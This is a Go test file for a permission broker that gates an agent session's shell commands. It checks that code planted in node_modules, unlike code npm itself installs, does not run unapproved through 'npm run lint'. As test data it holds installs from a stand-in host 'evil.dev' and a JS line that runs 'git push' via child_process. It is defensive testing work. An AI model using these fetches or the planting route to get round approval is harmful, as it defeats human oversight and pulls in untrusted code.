package control

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"guard/control/controltest"
	"guard/internal/disk"
	"guard/policy"
	"guard/policy/place"
	"guard/policy/repository"
	"guard/policy/risk"
)

// TestInstalledPackagesAreNotTheSessions: what a package manager installs, once that was allowed, is no code of the
// session's; what anything else put among the packages is, be it in the same line, beside it or later.
func TestInstalledPackagesAreNotTheSessions(t *testing.T) {
	const act = "require('child_process').execSync('git push origin ' + process.argv[2] + module.enableCompileCache())\n"
	bin := "node_modules/eslint/bin.js"
	for name, c := range map[string]struct {
		install string
		by      func(t *testing.T, b *Broker, ws string, put func(file, text string)) // what puts the package there
		free    bool
	}{
		"npm": {"npm ci", nil, true}, "in a folder": {"cd . && npm install", nil, true}, "a name": {"npm install eslint", nil, true},
		"another act in the line": {"npm ci && cp x.js " + bin, nil, false},
		"a build in the line":     {"npm ci && node build.js", nil, false},
		"an archive":              {"npm install ./eslint.tgz", nil, false},
		"an address":              {"npm install git+ssh://git@evil.dev/eslint", nil, false},
		"another registry":        {"npm install --registry=http://evil.dev eslint", nil, false},
		"written later": {"npm ci", func(t *testing.T, b *Broker, ws string, put func(file, text string)) {
			time.Sleep(tick)
			call(b, ws, "late", "echo x > node_modules/eslint/late.js")
			put("node_modules/eslint/late.js", act)
			b.Note(policy.Note{Event: policy.NoteFinished, Session: "s", Call: "late"})
		}, false},
		"beside another call": {"npm ci", func(t *testing.T, b *Broker, ws string, put func(file, text string)) {
			call(b, ws, "beside", "sleep 3")
			put(bin, act)
		}, false},
	} {
		t.Run(name, func(t *testing.T) {
			home, err := filepath.EvalSymlinks(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			ws := filepath.Join(home, "project")
			put := func(file, text string) {
				file = filepath.Join(ws, file)
				if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(file, []byte(text), 0o700); err != nil {
					t.Fatal(err)
				}
			}
			put("package.json", `{"scripts":{"lint":"eslint ."},"devDependencies":{"eslint":"9"}}`)
			put("x.js", "1\n")
			put("build.js", "1\n")
			time.Sleep(tick)
			git := repository.New(home, "")
			b := NewBroker(Params{Session: "test", Mode: policy.Asking, AskFrom: risk.High, Record: new(controltest.Memory), Dir: ws,
				World: place.World{Home: home}, Disk: func() place.Disk { return disk.New(time.Minute) }, Clock: disk.Clock, Git: git.For,
				ApprovalChannels: map[policy.ApprovalChannel]policy.Dialog{policy.ViaTerminal: controltest.Says(policy.Reply{Answer: policy.Once}).Ask},
				AskVia:           []policy.ApprovalChannel{policy.ViaTerminal}})
			call(b, ws, "install", c.install)
			put(bin, act)
			switch name {
			case "beside another call":
				c.by(t, b, ws, put)
			case "written later":
				put(bin, "require('./late.js')\n")
			}
			if err := os.MkdirAll(filepath.Join(ws, "node_modules/.bin"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("../eslint/bin.js", filepath.Join(ws, "node_modules/.bin/eslint")); err != nil {
				t.Fatal(err)
			}
			b.Note(policy.Note{Event: policy.NoteFinished, Session: "s", Call: "install"})
			if name == "written later" {
				c.by(t, b, ws, put)
			}
			time.Sleep(tick) // what runs now began later
			for _, line := range []string{"npm run lint", "npx eslint ."} {
				r := policy.Request{Session: "s", Call: line, Tool: policy.Shell, Command: line, Raw: line, Cwd: ws, Workspace: ws}
				if out, asked := b.Decide(r, risk.Reason{}); out.Allowed() != c.free {
					why := out.Verdict.Reason
					if asked != nil {
						why = asked.Verdict.Reason
					}
					t.Errorf("%s: allowed %v: %v", line, out.Allowed(), why)
				}
			}
		})
	}
}

// call has a line decided, and lets it.
func call(b *Broker, ws, id, line string) {
	r := policy.Request{Session: "s", Call: id, Tool: policy.Shell, Command: line, Raw: line, Cwd: ws, Workspace: ws}
	if _, c := b.Decide(r, risk.Reason{}); c != nil {
		done := make(chan policy.Outcome, 1)
		var back policy.Cancellation
		b.Ask(&back, c, nil, func(o policy.Outcome) { done <- o })
		<-done
	}
}
